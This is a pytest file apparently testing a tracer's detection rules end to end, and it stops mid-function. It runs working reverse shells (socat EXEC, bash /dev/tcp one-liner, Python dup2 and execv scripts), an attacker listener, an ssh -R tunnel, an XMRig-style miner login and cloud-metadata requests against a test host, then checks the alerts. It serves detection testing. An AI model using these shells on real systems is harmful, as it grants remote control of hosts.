"""Detection end to end: real tools in the sandbox namespace under `eptrace run`, real peers on the test host,
and the alert documents they must (or must not) raise.

Each scenario checks the alert contract of DESIGN.md (event.kind, rule.*, threat.*, event.severity, a message
that shows the evidence, labels.episode_id, process.pid, network.community_id of the evidence flow), that each
rule alerted exactly once, and the time to alert, measured on the wall clock: from the act (the @timestamp of
the kernel event the issue measures from) to the moment the alert document appeared in the output file
(polled every 20 ms). It is printed as a "TIME-TO-ALERT ..." line (pytest -s shows them); the tests bound it
generously (LIVENESS_S), as liveness rather than speed: speed figures belong to the bench and the issue notes.

Every "no alert" assertion comes with proof that the tracer saw the traffic, so silence is never blindness.
"""
from __future__ import annotations

import collections
import contextlib
import os
import shlex
import signal
import subprocess
import threading
import time
from pathlib import Path

import pytest

import harness
from eptrace_helpers import (HOST_CLIENT, LineReader, alerts, assert_contract, dump, get, kill, parse_timestamp, read_docs,
                             select, start_eptrace, wait_until)
from harness import HOST_IP, METADATA_IP, PYTHON
from tracer.detect import rules as catalog

GRACE = 3
# DESIGN.md names the technique of these rules; raw_socket and inbound_listener take the catalog's.
TECHNIQUES = {"reverse_tunnel": "T1572", "reverse_shell": "T1059.004", "crypto_mining": "T1496",
              "cloud_metadata_access": "T1552.005"}
RULE_IDS = {r.name: r.id for r in catalog.ALL}
for _r in catalog.ALL:
    TECHNIQUES.setdefault(_r.name, _r.attack_id)

# sh prints its pid, then execs the command: the pid printed is the pid of the tool itself.
PID_EXEC = ["/bin/sh", "-c", 'echo pid $$; exec "$@"', "sh"]


# ---- running an episode and timing its alerts ------------------------------------------------------------

class EpisodeRun:
    """`eptrace run --episode E --grace 3 --output file:... -- argv`, with the workload's stdout and stderr
    collected, and the wall time at which each alert document first appeared in the output file."""

    def __init__(self, tmp_path: Path, episode: str, argv: list, config: str | None = None,
                 capture: Path | None = None, extra_args=()):
        self.episode = episode
        self.events = tmp_path / f"{episode}.ndjson"
        args = ["run", "--episode", episode, "--grace", GRACE, "--output", f"file:{self.events}", *extra_args]
        if capture is not None:
            args += ["--capture", capture]
        if config is not None:
            cfg = tmp_path / f"{episode}.toml"
            cfg.write_text(config)
            args += ["--config", cfg]
        self.proc = start_eptrace(*args, "--", *argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        self.out, self.err = LineReader(self.proc.stdout), LineReader(self.proc.stderr)
        self.first_seen: dict[str, float] = {}      # alert event.id -> time.time() first seen in the file
        self._stop = threading.Event()
        self._poller = threading.Thread(target=self._poll, daemon=True)
        self._poller.start()

    def _poll(self) -> None:
        while not self._stop.is_set():
            try:
                docs = read_docs(self.events)
            except AssertionError:
                docs = []
            now = time.time()
            for d in alerts(docs):
                self.first_seen.setdefault(get(d, "event.id"), now)
            time.sleep(0.02)

    def __enter__(self) -> EpisodeRun:
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        kill(self.proc)
        self._poller.join(timeout=2)

    def docs(self) -> list[dict]:
        return read_docs(self.events)

    def line(self, key: str, timeout: float = 60.0) -> str:
        """The value of the first "KEY VALUE" line the workload printed."""
        def find():
            value = self._find(key)
            if value is None and self.proc.poll() is not None:
                raise AssertionError(f"eptrace run exited ({self.proc.returncode}) before printing {key!r}:\n"
                                     f"stdout: {self.out.text()}\nstderr: {self.err.text()}")
            return None if value is None else (value,)
        return wait_until(find, timeout, lambda: f"{key!r} line; stdout {self.out.text()!r}, "
                                                 f"stderr {self.err.text()[-2000:]!r}")[0]

    def _find(self, key: str) -> str | None:
        for line in list(self.out.lines):
            parts = line.split(maxsplit=1)
            if parts and parts[0] == key:
                return parts[1].strip() if len(parts) > 1 else ""
        return None

    def pid(self, key: str = "pid") -> int:
        return int(self.line(key))

    def wait_alert(self, rule: str, timeout: float = 15.0) -> dict:
        return wait_until(lambda: next(iter(alerts(self.docs(), rule)), None), timeout,
                          lambda: f"a {rule} alert; documents so far:\n{dump(self.docs(), 200)}")

    def finish(self, timeout: float = 90.0, status: int | None = 0) -> list[dict]:
        try:
            rc = self.proc.wait(timeout=timeout)
        except subprocess.TimeoutExpired:
            kill(self.proc)
            raise AssertionError(f"eptrace run did not finish in {timeout}s; stderr: {self.err.text()[-3000:]}")
        self.out.join()
        self.err.join()
        time.sleep(0.1)        # let the poller see the last lines
        self._stop.set()
        self._poller.join(timeout=2)
        docs = self.docs()
        if status is not None:
            assert rc == status, f"eptrace run exited {rc}, want {status}\nstdout: {self.out.text()}\n" \
                                 f"stderr: {self.err.text()[-3000:]}"
        assert_contract(docs)
        return docs


def ts(doc: dict) -> float:
    return parse_timestamp(doc["@timestamp"])


LIVENESS_S = 15.0     # an alert that takes longer than this to reach the output is a failure


def report(scenario: str, run: EpisodeRun, alert: dict, event: dict, what: str) -> float:
    """Seconds from the act (event's @timestamp) to the alert document's arrival in the output file."""
    seen = run.first_seen.get(get(alert, "event.id"))
    assert seen is not None, f"the poller never saw alert {get(alert, 'event.id')}"
    elapsed = seen - ts(event)
    print(f"\nTIME-TO-ALERT {scenario}: {elapsed * 1000:.0f} ms from {what} to the alert in the output "
          f"(alert @timestamp {(ts(alert) - ts(event)) * 1000:+.1f} ms after it)", flush=True)
    return elapsed


def rule_counts(docs: list[dict]) -> dict[str, int]:
    return dict(collections.Counter(get(d, "rule.name") for d in alerts(docs)))


def assert_alert(alert: dict, rule: str, episode: str, pid: int, mentions: list[str],
                 evidence: dict | None = None) -> None:
    """The alert contract of DESIGN.md, and that the message shows the evidence."""
    assert get(alert, "event.kind") == "alert", alert
    assert get(alert, "rule.name") == rule, alert
    assert get(alert, "rule.id") == RULE_IDS[rule], alert
    assert get(alert, "rule.description"), alert
    assert get(alert, "threat.framework") == "MITRE ATT&CK", alert
    # ECS: the parent technique in threat.technique.*, a sub-technique (T1059.004) in .subtechnique.*
    parent, _, sub = TECHNIQUES[rule].partition(".")
    assert get(alert, "threat.technique.id") == [parent], alert
    assert get(alert, "threat.technique.subtechnique.id") == ([TECHNIQUES[rule]] if sub else None), alert
    assert get(alert, "threat.technique.name"), alert
    severity = get(alert, "event.severity")
    assert isinstance(severity, int) and 0 < severity <= 100, alert
    assert get(alert, "event.risk_score") is not None, alert
    message = get(alert, "message") or ""
    for m in mentions:
        assert m in message, f"the message should mention {m!r}: {message!r}"
    assert get(alert, "labels.episode_id") == episode, alert
    assert get(alert, "eptrace.cgroup.path"), alert
    assert get(alert, "process.pid") == pid, alert
    if evidence is not None:
        cid = get(evidence, "network.community_id")
        assert cid, f"the evidence flow has no community_id: {evidence}"
        assert get(alert, "network.community_id") == cid, (alert, evidence)


def assert_no_alerts(docs: list[dict]) -> None:
    found = alerts(docs)
    assert not found, "benign work raised alerts:\n" + "\n".join(
        f"{get(a, 'rule.name')}: {get(a, 'message')}" for a in found)


def flow_of(docs: list[dict], action: str, pid: int | None = None, **where) -> dict:
    found = select(docs, action, pid=pid, **where)
    assert found, f"no {action} {where} for pid {pid}:\n{dump(docs, 200)}"
    return found[0]


def quoted(argv: list) -> str:
    return " ".join(shlex.quote(str(a)) for a in argv)


# ---- 1. reverse tunnel: ssh -N -R, really used from the test host ---------------------------------------

# In the sandbox: the -R target on 127.0.0.1:8000; answers RELAYED connections, then exits.
RELAYED = 3
TUNNEL_TARGET = r'''
import socket
server = socket.create_server(("127.0.0.1", 8000))
server.settimeout(60)
print("listening", flush=True)
served = 0
while served < 3:
    conn, addr = server.accept()
    with conn:
        data = conn.recv(100)
        if data:
            conn.sendall(b"sandbox-answer:" + data)
            served += 1
            print("served", addr[0], addr[1], flush=True)
'''

# On the test host: connects to sshd's forwarded port 127.0.0.1:9000 until the sandbox answers, then uses
# the tunnel twice more (three relayed connections in all).
TUNNEL_USER = r'''
import socket, time
deadline = time.monotonic() + 30
answers = 0
while answers < 3:
    try:
        with socket.create_connection(("127.0.0.1", 9000), timeout=5) as s:
            s.sendall(b"hello-through-the-tunnel")
            data = s.recv(100)
    except OSError:
        data = b""
    if data:
        answers += 1
        print("answer", data.decode(), flush=True)
        continue
    if time.monotonic() > deadline:
        raise SystemExit("no answer through 127.0.0.1:9000")
    time.sleep(0.1)
'''


def ssh_forward_argv(sshd: harness.Sshd, layout: str, forward: list[str]) -> list[str]:
    base = sshd.ssh_argv()          # [..., "-p", PORT, "root@198.51.100.1"]
    if layout == "options-first":   # ssh -N -R 9000:127.0.0.1:8000 ... -p PORT root@host
        return base[:1] + forward + base[1:]
    return base + forward           # ssh ... root@host -N -R ...: OpenSSH parses options after the host too


@contextlib.contextmanager
def ssh_tunnel_in_use(net, tmp_path: Path, episode: str, ssh: list):
    """TUNNEL_TARGET in the sandbox beside the ssh argv, under `eptrace run`; once it listens, TUNNEL_USER on the
    test host uses the tunnel. Yields (run, ssh's pid, the user process, its stdout, its stderr)."""
    script = f'{PYTHON} -u -c "$0" & echo pid $$; exec "$@"'
    with EpisodeRun(tmp_path, episode, net.sandbox_prefix() + ["/bin/sh", "-c", script, TUNNEL_TARGET,
                                                               *ssh]) as run:
        ssh_pid = run.pid()
        run.line("listening")
        user = net.run_in_host([PYTHON, "-u", "-c", TUNNEL_USER], stdout=subprocess.PIPE,
                               stderr=subprocess.PIPE, text=True)
        user_out, user_err = user.communicate(timeout=40)
        yield run, ssh_pid, user, user_out, user_err


@pytest.mark.parametrize("layout", ["options-first", "options-after-host"])
def test_ssh_reverse_tunnel_used_from_test_host(net, tmp_path, layout):
    forward = ["-N", "-R", "9000:127.0.0.1:8000"]
    episode = f"ep-tunnel-{layout}"
    with harness.sshd(net) as sshd:
        ssh = ssh_forward_argv(sshd, layout, forward)
        with ssh_tunnel_in_use(net, tmp_path, episode, ssh) as (run, ssh_pid, user, user_out, user_err):
            # The tunnel really works: the test host reached the sandbox's 127.0.0.1:8000 through ssh -R.
            assert user.returncode == 0 and user_out.count("answer sandbox-answer:hello-through-the-tunnel") \
                == RELAYED, (user_out, user_err, run.err.text()[-2000:])
            run.line("served")
            try:
                alert = run.wait_alert("reverse_tunnel", timeout=10)
            finally:
                os.kill(ssh_pid, signal.SIGTERM)       # the ssh we started (in the episode): the run ends
            docs = run.finish(status=None)

    relayed = select(docs, "connection_attempted", pid=ssh_pid, destination__ip="127.0.0.1",
                     destination__port=8000)
    assert len(relayed) >= RELAYED, dump(docs)
    ssh_flow = flow_of(docs, "connection_established", pid=ssh_pid, destination__ip=HOST_IP,
                       destination__port=sshd.port)
    tunnel_alerts = alerts(docs, "reverse_tunnel")
    assert tunnel_alerts, dump(docs)
    alert = tunnel_alerts[0]
    assert_alert(alert, "reverse_tunnel", episode, ssh_pid,
                 [HOST_IP, str(sshd.port), "-R", "9000:127.0.0.1:8000"], evidence=ssh_flow)
    assert (get(alert, "destination.ip"), get(alert, "destination.port")) == (HOST_IP, sshd.port), alert
    lag = report(f"reverse_tunnel ssh -R ({layout})", run, alert, relayed[0], "the first relayed connection")
    assert lag <= LIVENESS_S, f"alert {lag:.3f}s after the first relayed connection"
    # The argv is conclusive: the alert comes at the ssh connection itself, before any relayed traffic.
    assert ts(alert) <= ts(relayed[0]), (alert["@timestamp"], relayed[0]["@timestamp"])
    # One tunnel, one alert: the connections relayed through it are not new tunnels.
    assert rule_counts(docs) == {"reverse_tunnel": 1}, "\n".join(get(a, "message") for a in alerts(docs))


def test_idle_ssh_tunnel_by_an_unknown_program_is_scored(net, tmp_path):
    """The issue's second example: an ssh -N -R that nobody uses, run by a binary named like no known tool,
    is caught by behaviour within long_flow_seconds + 15 s."""
    long_flow = 3.0
    config = f"[flows]\nlong_flow_seconds = {long_flow}\nupdate_interval_seconds = 1.0\n"
    tool = tmp_path / "syncd"
    tool.write_bytes(Path("/usr/bin/ssh").read_bytes())
    tool.chmod(0o755)
    episode = "ep-idle-tunnel"
    with harness.sshd(net) as sshd:
        argv = ssh_forward_argv(sshd, "options-first", ["-N", "-R", "9000:127.0.0.1:8000"])
        argv[0] = str(tool)
        with EpisodeRun(tmp_path, episode, net.sandbox_prefix() + PID_EXEC + argv, config=config) as run:
            pid = run.pid()
            try:
                run.wait_alert("reverse_tunnel", timeout=long_flow + 25)
            finally:
                os.kill(pid, signal.SIGTERM)
            docs = run.finish(status=None)
    conn = flow_of(docs, "connection_attempted", pid=pid, destination__ip=HOST_IP, destination__port=sshd.port)
    established = flow_of(docs, "connection_established", pid=pid, destination__ip=HOST_IP,
                          destination__port=sshd.port)
    assert rule_counts(docs) == {"reverse_tunnel": 1}, "\n".join(get(a, "message") for a in alerts(docs))
    alert = alerts(docs, "reverse_tunnel")[0]
    assert_alert(alert, "reverse_tunnel", episode, pid, [HOST_IP, str(sshd.port)], evidence=established)
    lag = report("reverse_tunnel idle, renamed ssh (scored)", run, alert, conn, "the tunnel's connect")
    assert lag <= long_flow + LIVENESS_S, lag


# ---- 2. reverse shells ---------------------------------------------------------------------------------

# On the test host: the attacker's listener. Waits for the sandbox (ignoring the harness's readiness probe),
# waits a second as a person would, sends a command, and logs everything the shell sends back until it hangs up.
SHELL_LISTENER = r'''
import socket, sys, time
port, command = int(sys.argv[1]), sys.argv[2].encode()
server = socket.create_server(("198.51.100.1", port))
print("listening", flush=True)
while True:
    conn, addr = server.accept()
    if addr[0] == "198.51.100.2":
        break
    conn.close()
print("peer", addr[0], addr[1], flush=True)
time.sleep(1.0)                      # an attacker types: the shell lives a while
conn.settimeout(2)
buf = b""
try:
    buf += conn.recv(65536)          # a prompt, or nothing
except socket.timeout:
    pass
conn.sendall(command)
conn.settimeout(15)
try:
    while data := conn.recv(65536):
        buf += data
except socket.timeout:
    pass
print("got", buf.hex(), flush=True)
'''
SHELL_COMMAND = "echo pwned-$((6*7)); exit\n"    # the shell's answer, pwned-42, is not an echo of the input


def shell_listener(net, port):
    return harness.python_server(net, SHELL_LISTENER, port, args=(port, SHELL_COMMAND), banner="listening\n")


def shell_output(listener: harness.Peer, timeout: float = 25.0) -> bytes:
    def got():
        for line in list(listener.stdout):
            if line.startswith("got "):
                return bytes.fromhex(line.split()[1] if len(line.split()) > 1 else "") or b"(empty)"
        return None
    return wait_until(got, timeout, lambda: f"the shell's output; listener: {listener.stdout} {listener.stderr}")


# A Python reverse shell from a script file: nothing in its argv says "shell" (behaviour only: dup2 onto stdio).
PY_DUP2_SHELL = r'''
import os, socket, subprocess, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])
'''
# The same, but the shell replaces the interpreter in the same process (the socket's own fd is close-on-exec).
PY_EXECV_SHELL = PY_DUP2_SHELL.replace('subprocess.call(["/bin/sh", "-i"])', 'os.execv("/bin/sh", ["sh", "-i"])')


@pytest.mark.parametrize("tool", ["socat-exec", "bash-dev-tcp", "python-dup2", "python-execv"])
def test_reverse_shell(net, tmp_path, tool):
    port = {"socat-exec": 4444, "bash-dev-tcp": 4445, "python-dup2": 4446, "python-execv": 4447}[tool]
    if tool == "socat-exec":
        cmd = ["socat", f"TCP:{HOST_IP}:{port}", "EXEC:bash -li,pty,stderr,setsid"]
        mentions = [HOST_IP, str(port), "EXEC:bash -li"]
    elif tool == "bash-dev-tcp":
        cmd = ["bash", "-c", f"bash -i >& /dev/tcp/{HOST_IP}/{port} 0>&1"]
        mentions = [HOST_IP, str(port), f"/dev/tcp/{HOST_IP}/{port}"]
    else:
        script = tmp_path / "sync_helper.py"
        script.write_text(PY_DUP2_SHELL if tool == "python-dup2" else PY_EXECV_SHELL)
        cmd = [PYTHON, script, HOST_IP, port]
        mentions = [HOST_IP, str(port)]
    episode = f"ep-{tool}"
    with shell_listener(net, port) as listener:
        with EpisodeRun(tmp_path, episode, net.sandbox_prefix() + PID_EXEC + cmd) as run:
            pid = run.pid()
            out = shell_output(listener)
            assert b"pwned-42" in out, f"the shell did not run the command: {out!r}"
            docs = run.finish()

    # socat connects itself; bash forks a child for the redirection (it inherits the argv), which connects.
    conn = flow_of(docs, "connection_established", destination__ip=HOST_IP, destination__port=port)
    shell_pid = get(conn, "process.pid")
    assert pid in (shell_pid, get(conn, "process.parent.pid")), conn
    attempt = flow_of(docs, "connection_attempted", pid=shell_pid, destination__ip=HOST_IP,
                      destination__port=port)
    assert rule_counts(docs) == {"reverse_shell": 1}, dump(alerts(docs))
    alert = alerts(docs, "reverse_shell")[0]
    lag = report(f"reverse_shell {tool}", run, alert, attempt, "the shell's connect")
    assert 0 <= lag <= LIVENESS_S, f"alert {lag * 1000:+.1f} ms after the connection it is about: {get(alert, 'message')}"
    # The alert names a process that holds the socket: the one that connected, a shell it started since,
    # or the shell it exec'd into.
    holders = [get(conn, "process.args")] + [get(d, "process.args") for d in select(docs, "process_started")
                                             if shell_pid in (get(d, "process.parent.pid"), get(d, "process.pid"))
                                             and ts(d) >= ts(conn)]
    assert get(alert, "process.args") in holders, (get(alert, "process.args"), holders)
    assert_alert(alert, "reverse_shell", episode, shell_pid, mentions, evidence=conn)


# ---- 3. crypto mining: a miner's argv ------------------------------------------------------------------

# On the test host: a Stratum-like pool. Answers an XMRig-style login with a job.
POOL = r'''
import json, socket, threading
def serve(conn):
    with conn, conn.makefile("rwb") as f:
        line = f.readline()
        if not line:
            return
        req = json.loads(line)
        print("login", req["method"], req["params"]["agent"], flush=True)
        f.write(json.dumps({"id": req["id"], "jsonrpc": "2.0", "error": None, "result": {
            "id": "1", "status": "OK", "job": {"blob": "0707", "job_id": "j1", "target": "b88d0600",
                                               "algo": "rx/0"}}}).encode() + b"\n")
        f.flush()
server = socket.create_server(("198.51.100.1", 3333))
print("listening", flush=True)
while True:
    conn, _ = server.accept()
    threading.Thread(target=serve, args=(conn,), daemon=True).start()
'''

# The miner: argv[1] is the pool URL; logs in the way XMRig does and reads the job.
MINER = r'''
import json, os, socket, sys
print("pid", os.getpid(), flush=True)
host, port = sys.argv[1].split("://")[-1].rsplit(":", 1)
with socket.create_connection((host, int(port)), timeout=10) as s, s.makefile("rwb") as f:
    f.write(json.dumps({"id": 1, "jsonrpc": "2.0", "method": "login", "params": {
        "login": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
        "pass": "x", "agent": "XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0", "algo": ["rx/0"]}}).encode()
        + b"\n")
    f.flush()
    print("reply", f.readline().decode().strip(), flush=True)
'''

# The agent that starts it (`python3 -u miner.py stratum+tcp://...`): the pool URL appears only in the
# miner's own argv.
LAUNCHER = r'''
import subprocess, sys
url = "stratum" + "+tcp://" + sys.argv[1]
subprocess.run([sys.executable, "-u", sys.argv[2], url], check=True)
'''


def test_crypto_miner_argv(net, tmp_path):
    url = f"stratum+tcp://{HOST_IP}:3333"
    episode = "ep-miner"
    miner = tmp_path / "miner.py"
    miner.write_text(MINER)
    with harness.python_server(net, POOL, 3333, banner="listening\n") as pool:
        with EpisodeRun(tmp_path, episode, net.sandbox_prefix() + [PYTHON, "-u", "-c", LAUNCHER,
                                                                   f"{HOST_IP}:3333", miner]) as run:
            pid = run.pid()
            assert '"job_id": "j1"' in run.line("reply"), run.out.text()
            docs = run.finish()
        assert any("login login XMRig/" in line for line in pool.stdout), pool.stdout

    started = flow_of(docs, "process_started", pid=pid)
    assert get(started, "process.args") == [PYTHON, "-u", str(miner), url], started
    flow_of(docs, "connection_established", pid=pid, destination__ip=HOST_IP, destination__port=3333)
    mining = alerts(docs, "crypto_mining")
    assert mining, dump(docs)
    alert = mining[0]
    assert_alert(alert, "crypto_mining", episode, pid, [url, f"pid {pid}"])
    assert url in get(alert, "process.args"), alert
    lag = report("crypto_mining stratum+tcp argv", run, alert, started, "the miner's exec")
    assert lag <= LIVENESS_S, lag
    # One miner, one process, one flow: one alert.
    assert rule_counts(docs) == {"crypto_mining": 1}, "\n".join(get(a, "message") for a in alerts(docs))


def test_crypto_miner_stratum_payload(net, tmp_path):
    """No miner argv at all (`python3 worker.py 198.51.100.1:3333`): the XMRig-style login in the flow's
    first bytes is the evidence, so the alert carries that flow."""
    episode = "ep-stratum"
    worker = tmp_path / "worker.py"
    worker.write_text(MINER)
    cmd = [PYTHON, "-u", worker, f"{HOST_IP}:3333"]
    with harness.python_server(net, POOL, 3333, banner="listening\n") as pool:
        with EpisodeRun(tmp_path, episode, net.sandbox_prefix() + cmd) as run:
            pid = run.pid()
            assert '"job_id": "j1"' in run.line("reply"), run.out.text()
            docs = run.finish()
        assert any("login login XMRig/" in line for line in pool.stdout), pool.stdout
    conn = flow_of(docs, "connection_established", pid=pid, destination__ip=HOST_IP, destination__port=3333)
    mining = alerts(docs, "crypto_mining")
    assert mining, dump(docs)
    alert = mining[0]
    lag = report("crypto_mining Stratum login payload", run, alert, conn, "the connection")
    assert lag <= LIVENESS_S, lag
    assert rule_counts(docs) == {"crypto_mining": 1}, "\n".join(get(a, "message") for a in alerts(docs))
    assert_alert(alert, "crypto_mining", episode, pid, [f"{HOST_IP}:3333", "login"], evidence=conn)
    ended = flow_of(docs, "flow_ended", pid=pid, destination__ip=HOST_IP, destination__port=3333)
    assert get(ended, "network.protocol") == "stratum", ended         # the first bytes name it


# ---- 4. cloud metadata ---------------------------------------------------------------------------------

def test_cloud_metadata_http_get(net, tmp_path):
    root = tmp_path / "imds"
    (root / "latest/meta-data/iam").mkdir(parents=True)
    (root / "latest/meta-data/instance-id").write_text("i-0123456789abcdef0\n")
    (root / "latest/meta-data/iam/info").write_text('{"Code": "Success"}\n')
    base = f"http://{METADATA_IP}/latest/meta-data"
    episode = "ep-imds"
    # One curl, two requests (http.server closes each: two connections): one alert.
    cmd = ["curl", "-sS", "--noproxy", "*", f"{base}/instance-id", f"{base}/iam/info"]
    with harness.http_server(net, 80, root, metadata=True) as server:
        with EpisodeRun(tmp_path, episode, net.sandbox_prefix() + PID_EXEC + cmd) as run:
            pid = run.pid()
            docs = run.finish()
            assert "i-0123456789abcdef0" in run.out.text() and '"Code": "Success"' in run.out.text(), \
                run.out.text()
        assert "GET /latest/meta-data/iam/info" in server.log(), server.log()

    attempts = select(docs, "connection_attempted", pid=pid, destination__ip=METADATA_IP)
    assert len(attempts) == 2, dump(docs)
    established = flow_of(docs, "connection_established", pid=pid, destination__ip=METADATA_IP)
    assert rule_counts(docs) == {"cloud_metadata_access": 1}, dump(alerts(docs))
    alert = alerts(docs, "cloud_metadata_access")[0]
    assert_alert(alert, "cloud_metadata_access", episode, pid, [METADATA_IP], evidence=established)
    assert get(alert, "destination.ip") == METADATA_IP, alert
    assert get(alert, "destination.port") == 80, alert
    lag = report("cloud_metadata_access curl", run, alert, attempts[0], "the first connect")
    assert lag <= LIVENESS_S, lag


# ---- 5. raw and packet sockets ----------------------------------------------------------------------------

RAW = r'''
import os, socket
print("pid", os.getpid(), flush=True)
socks = []
for _ in range(2):      # two of each kind: one alert per kind
    socks.append(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
    socks.append(socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003)))
# An ICMP echo request, crafted by hand, to the test host.
payload = b"\x08\x00\x00\x00\x12\x34\x00\x01" + b"eptrace"
s = sum(int.from_bytes(payload[i:i + 2].ljust(2, b"\0"), "big") for i in range(0, len(payload), 2))
s = (s >> 16) + (s & 0xffff); s += s >> 16
packet = payload[:2] + (~s & 0xffff).to_bytes(2, "big") + payload[4:]
socks[0].sendto(packet, ("198.51.100.1", 0))
for sk in socks:
    sk.close()
print("done", flush=True)
'''


def test_raw_and_packet_sockets(net, tmp_path):
    episode = "ep-raw"
    with EpisodeRun(tmp_path, episode, net.sandbox_prefix() + [PYTHON, "-u", "-c", RAW]) as run:
        pid = run.pid()
        docs = run.finish()
    created = select(docs, "socket_created", pid=pid)
    assert rule_counts(docs) == {"raw_socket": 2}, dump(alerts(docs))
    by_family = {}
    for alert in alerts(docs, "raw_socket"):
        family = "AF_PACKET" if "AF_PACKET" in get(alert, "message") else "AF_INET"
        by_family[family] = alert
        assert_alert(alert, "raw_socket", episode, pid, [family, "SOCK_RAW"])
    assert set(by_family) == {"AF_INET", "AF_PACKET"}, dump(alerts(docs))
    for family, alert in by_family.items():
        first = next(d for d in created if get(d, "eptrace.socket.family") == family
                     and get(d, "eptrace.socket.type") == "SOCK_RAW")
        lag = report(f"raw_socket {family}", run, alert, first, "the socket's creation")
        assert lag <= LIVENESS_S, lag


# ---- 6. inbound listener ------------------------------------------------------------------------------

# In the sandbox: listens on every address; first takes a connection from its own loopback, then two from
# the test host (one alert per listener and source, not per connection).
LISTENER = r'''
import os, socket, sys
port = int(sys.argv[1])
print("pid", os.getpid(), flush=True)
server = socket.create_server(("0.0.0.0", port))
server.settimeout(30)
local = socket.create_connection(("127.0.0.1", port), timeout=5)
conn, addr = server.accept()
local.sendall(b"from-loopback")
print("loopback", conn.recv(100).decode(), addr[0], flush=True)
conn.close(); local.close()
print("listening", flush=True)
for _ in range(2):
    conn, addr = server.accept()
    with conn:
        data = conn.recv(100)
        conn.sendall(b"hello " + data)
    print("peer", addr[0], addr[1], flush=True)
'''

def test_inbound_listener_alerts_for_outside_not_loopback(net, tmp_path):
    port, episode = 8443, "ep-inbound"
    with EpisodeRun(tmp_path, episode, net.sandbox_prefix() + [PYTHON, "-u", "-c", LISTENER, port]) as run:
        pid = run.pid()
        assert run.line("loopback").startswith("from-loopback 127.0.0.1"), run.out.text()
        run.line("listening")
        # The loopback connection has been reported (the tracer saw it) and raised nothing.
        wait_until(lambda: select(run.docs(), "connection_accepted", pid=pid, source__ip="127.0.0.1"), 10,
                   lambda: f"the loopback accept:\n{dump(run.docs())}")
        assert not alerts(run.docs()), dump(alerts(run.docs()))
        for _ in range(2):
            client = net.run_in_host([PYTHON, "-c", HOST_CLIENT, port], stdout=subprocess.PIPE, text=True)
            out, _ = client.communicate(timeout=20)
            assert client.returncode == 0 and "hello from-host" in out, out
        docs = run.finish()

    accepted = select(docs, "connection_accepted", pid=pid, destination__port=port)
    outside = [d for d in accepted if get(d, "source.ip") == HOST_IP]
    assert len(outside) == 2 and len(accepted) == 3, dump(accepted)
    assert rule_counts(docs) == {"inbound_listener": 1}, dump(alerts(docs))
    alert = alerts(docs, "inbound_listener")[0]
    assert_alert(alert, "inbound_listener", episode, pid, [HOST_IP, str(port)], evidence=outside[0])
    assert get(alert, "source.ip") == HOST_IP, alert
    assert "127.0.0.1" not in get(alert, "message"), alert
    lag = report("inbound_listener", run, alert, outside[0], "the first outside accept")
    assert lag <= LIVENESS_S, lag


# ---- 7. benign work: no alert of any rule ----------------------------------------------------------------

def ssh_command(sshd: harness.Sshd) -> list[str]:
    """The harness's ssh options without the port and destination (for GIT_SSH_COMMAND)."""
    argv = sshd.ssh_argv()
    return argv[:argv.index("-p")]


def make_bare_repo(tmp_path: Path) -> Path:
    work, bare = tmp_path / "work", tmp_path / "repo.git"
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid", "-c", "init.defaultBranch=main"]
    subprocess.run(git + ["init", "-q", str(work)], check=True)
    for i in range(20):
        (work / f"file{i}.txt").write_text(f"line {i}\n" * 200)
    subprocess.run(git + ["-C", str(work), "add", "."], check=True)
    subprocess.run(git + ["-C", str(work), "commit", "-q", "-m", "initial"], check=True)
    subprocess.run(git + ["clone", "-q", "--bare", str(work), str(bare)], check=True)
    return bare


def test_benign_git_clone_over_ssh(net, tmp_path):
    bare = make_bare_repo(tmp_path)
    dest = tmp_path / "clone"
    with harness.sshd(net) as sshd:
        url = f"ssh://root@{HOST_IP}:{sshd.port}{bare}"
        cmd = ["env", f"GIT_SSH_COMMAND={quoted(ssh_command(sshd))}", "git", "clone", "-q", url, str(dest)]
        with EpisodeRun(tmp_path, "ep-git", net.sandbox_prefix() + cmd) as run:
            docs = run.finish()
    assert (dest / "file19.txt").read_text().startswith("line 19"), list(dest.iterdir())
    ssh_flows = select(docs, "connection_established", destination__ip=HOST_IP, destination__port=sshd.port,
                       process__name="ssh")
    assert ssh_flows, dump(docs)
    started = [get(d, "process.args") for d in select(docs, "process_started", process__name="ssh")]
    assert any("git-upload-pack" in " ".join(a) for a in started), started
    assert_no_alerts(docs)


def test_benign_http_download_of_several_megabytes(net, tmp_path):
    root = tmp_path / "www"
    root.mkdir()
    size = 8 * 1024 * 1024
    (root / "model.bin").write_bytes(os.urandom(size))
    out = tmp_path / "model.bin"
    with harness.http_server(net, 8080, root):
        cmd = ["curl", "-sS", "--noproxy", "*", "-o", str(out), f"http://{HOST_IP}:8080/model.bin"]
        with EpisodeRun(tmp_path, "ep-download", net.sandbox_prefix() + cmd) as run:
            docs = run.finish()
    assert out.stat().st_size == size
    ended = select(docs, "flow_ended", destination__ip=HOST_IP, destination__port=8080)
    assert ended and get(ended[0], "destination.bytes") >= size, dump(docs)
    assert_no_alerts(docs)


def test_benign_ssh_true(net, tmp_path):
    with harness.sshd(net) as sshd:
        cmd = sshd.ssh_argv("true")
        with EpisodeRun(tmp_path, "ep-ssh-true", net.sandbox_prefix() + cmd) as run:
            docs = run.finish()
    assert select(docs, "connection_established", destination__ip=HOST_IP, destination__port=sshd.port), \
        dump(docs)
    assert_no_alerts(docs)


# Ordinary DNS: A and AAAA queries the way resolvers send them (connected UDP socket, then sendto).
DNS_CLIENT = r'''
import os, socket, struct
def query(qid, name, qtype):
    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + q + struct.pack("!HH", qtype, 1)
names = ["pypi.org", "files.pythonhosted.org", "github.com", "huggingface.co", "objects.githubusercontent.com"]
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(5)
    s.connect(("198.51.100.1", 53))
    for i, name in enumerate(names):
